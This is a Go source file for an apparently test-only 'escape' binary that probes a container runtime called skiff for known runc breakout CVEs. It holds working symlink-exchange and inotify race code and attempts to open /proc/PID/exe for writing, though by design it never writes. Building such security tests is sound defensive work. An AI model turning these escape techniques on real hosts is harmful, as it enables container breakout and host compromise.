// Command escape is the attacker in skiff's security tests: it runs
// inside a container (or, for flip, on the host as the racing second
// process) and tries the escapes of known runc CVEs, reporting what got
// through as JSON. It never writes to what it manages to open: opening a
// host file for writing is proof enough, and the tests run on machines
// people use.
//
// Usage:
//
//	escape exe -stop PATH [-clear-immutable] [-max DUR]
//	    CVE-2019-5736: open /proc/PID/exe of every process for writing,
//	    directly and by reopening a read-only fd through /proc/self/fd,
//	    until PATH exists; prints an ExeReport.
//	escape watch -stop PATH [-max DUR]
//	    CVE-2016-9962: ptrace every new process and list the fds of
//	    every skiff init it can see, until PATH exists; prints a
//	    WatchReport.
//	escape flip -dir DIR -name NAME -target TARGET [-on-create] [-max DUR]
//	    Exchanges DIR/NAME with a symlink to TARGET (renameat2
//	    RENAME_EXCHANGE) in a tight loop until SIGTERM or DUR; prints
//	    the number of flips. With -on-create it waits (inotify) for
//	    NAME to be created and at once renames a symlink over it: the
//	    attack on create-then-chmod sequences.
//	escape openw PATH...
//	    Opens each PATH O_WRONLY (never writes) and prints a JSON map
//	    of PATH to "ok" or the errno name.
//	escape marker
//	    Prints the marker line: a test that finds it in the output ran
//	    this binary from a host path.
package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Marker is what `escape marker` prints.
const Marker = "ESCAPED-HOST-BINARY"

func main() {
	if len(os.Args) < 2 {
		fatal(2, "usage: escape exe|watch|flip|openw|marker ...")
	}
	fs := flag.NewFlagSet(os.Args[1], flag.ExitOnError)
	stop := fs.String("stop", "", "stop when this path exists")
	max := fs.Duration("max", 5*time.Minute, "stop after this long at the latest")
	clearImm := fs.Bool("clear-immutable", false, "also try to clear FS_IMMUTABLE_FL on held binaries")
	dir := fs.String("dir", "", "flip: directory holding the entry")
	name := fs.String("name", "", "flip: entry to exchange")
	target := fs.String("target", "", "flip: symlink target")
	onCreate := fs.Bool("on-create", false, "flip: replace NAME by the symlink each time it is created (inotify)")
	_ = fs.Parse(os.Args[2:])
	switch os.Args[1] {
	case "exe":
		printJSON(exeAttack(*stop, *max, *clearImm))
	case "watch":
		printJSON(watch(*stop, *max))
	case "flip":
		if *dir == "" || *name == "" || *target == "" {
			fatal(2, "usage: escape flip -dir DIR -name NAME -target TARGET")
		}
		flipFn := flip
		if *onCreate {
			flipFn = replaceOnCreate
		}
		n, err := flipFn(*dir, *name, *target, *max)
		if err != nil {
			fatal(1, "flip: %v", err)
		}
		fmt.Printf("%d\n", n)
	case "openw":
		res := map[string]string{}
		for _, p := range fs.Args() {
			fd, err := unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC|unix.O_NOCTTY, 0)
			if err != nil {
				res[p] = errnoName(err)
				continue
			}
			unix.Close(fd)
			res[p] = "ok"
		}
		printJSON(res)
	case "marker":
		fmt.Println(Marker)
	default:
		fatal(2, "unknown mode %q", os.Args[1])
	}
}

func fatal(code int, format string, a ...any) {
	fmt.Fprintf(os.Stderr, "escape: "+format+"\n", a...)
	os.Exit(code)
}

func printJSON(v any) {
	b, err := json.Marshal(v)
	if err != nil {
		fatal(1, "marshal: %v", err)
	}
	fmt.Println(string(b))
}

func stopped(stop string, deadline time.Time) bool {
	if time.Now().After(deadline) {
		return true
	}
	if stop == "" {
		return false
	}
	_, err := os.Lstat(stop)
	return err == nil
}

func errnoName(err error) string {
	var e unix.Errno
	if errors.As(err, &e) {
		if n := unix.ErrnoName(e); n != "" {
			return n
		}
	}
	return err.Error()
}

// flip swaps DIR/NAME with DIR/.NAME-flip, a symlink to target. When
// something else (the runtime) removes one of the two, it is put back
// as a symlink so the race goes on.
func flip(dir, name, target string, max time.Duration) (int, error) {
	dfd, err := unix.Open(dir, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return 0, err
	}
	other := "." + filepath.Base(name) + "-flip"
	_ = unix.Unlinkat(dfd, other, 0)
	if err := unix.Symlinkat(target, dfd, other); err != nil {
		return 0, err
	}
	term := make(chan os.Signal, 1)
	signal.Notify(term, unix.SIGTERM, unix.SIGINT)
	deadline := time.Now().Add(max)
	n := 0
	for {
		select {
		case <-term:
			return n, nil
		default:
		}
		if n%1024 == 0 && time.Now().After(deadline) {
			return n, nil
		}
		err := unix.Renameat2(dfd, name, dfd, other, unix.RENAME_EXCHANGE)
		if err == nil {
			n++
			continue
		}
		if !errors.Is(err, unix.ENOENT) {
			return n, fmt.Errorf("exchange %s: %w", name, err)
		}
		for _, e := range []string{name, other} {
			var st unix.Stat_t
			if unix.Fstatat(dfd, e, &st, unix.AT_SYMLINK_NOFOLLOW) != nil {
				_ = unix.Symlinkat(target, dfd, e)
			}
		}
	}
}

// replaceOnCreate renames a fresh symlink to target over DIR/NAME each
// time inotify reports NAME created, so that whatever the runtime does
// next to the node it just made lands on the symlink instead.
func replaceOnCreate(dir, name, target string, max time.Duration) (int, error) {
	dfd, err := unix.Open(dir, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return 0, err
	}
	in, err := unix.InotifyInit1(unix.IN_CLOEXEC | unix.IN_NONBLOCK)
	if err != nil {
		return 0, err
	}
	if _, err := unix.InotifyAddWatch(in, dir, unix.IN_CREATE|unix.IN_MOVED_TO); err != nil {
		return 0, err
	}
	term := make(chan os.Signal, 1)
	signal.Notify(term, unix.SIGTERM, unix.SIGINT)
	deadline := time.Now().Add(max)
	tmp := "." + filepath.Base(name) + "-new"
	buf := make([]byte, 64*1024)
	n := 0
	for time.Now().Before(deadline) {
		select {
		case <-term:
			return n, nil
		default:
		}
		fds := []unix.PollFd{{Fd: int32(in), Events: unix.POLLIN}}
		if _, err := unix.Poll(fds, 100); err != nil && !errors.Is(err, unix.EINTR) {
			return n, err
		}
		m, err := unix.Read(in, buf)
		if err != nil {
			continue
		}
		created := false
		for off := 0; off+unix.SizeofInotifyEvent <= m; {
			ev := (*unix.InotifyEvent)(unsafe.Pointer(&buf[off]))
			nameBytes := buf[off+unix.SizeofInotifyEvent : off+unix.SizeofInotifyEvent+int(ev.Len)]
			if string(bytes.TrimRight(nameBytes, "\x00")) == name && ev.Mask&unix.IN_CREATE != 0 {
				created = true
			}
			off += unix.SizeofInotifyEvent + int(ev.Len)
		}
		if !created {
			continue
		}
		_ = unix.Unlinkat(dfd, tmp, 0)
		if unix.Symlinkat(target, dfd, tmp) == nil && unix.Renameat(dfd, tmp, dfd, name) == nil {
			n++
		}
	}
	return n, nil
}
